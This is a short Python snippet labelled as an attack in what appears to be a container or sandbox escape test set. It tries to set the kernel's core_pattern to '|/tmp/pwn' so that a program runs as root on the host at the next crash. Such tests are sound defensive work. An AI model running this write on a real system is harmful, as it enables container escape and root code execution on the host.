# attack: core_pattern
# category: proc_sys
# kind: proc_access
# describe: set the kernel's core_pattern to a program (runs as root on the host at the next crash)
try:
    with open("/proc/sys/kernel/core_pattern", "w") as f:
        f.write("|/tmp/pwn")
except OSError as e:
    print(e)
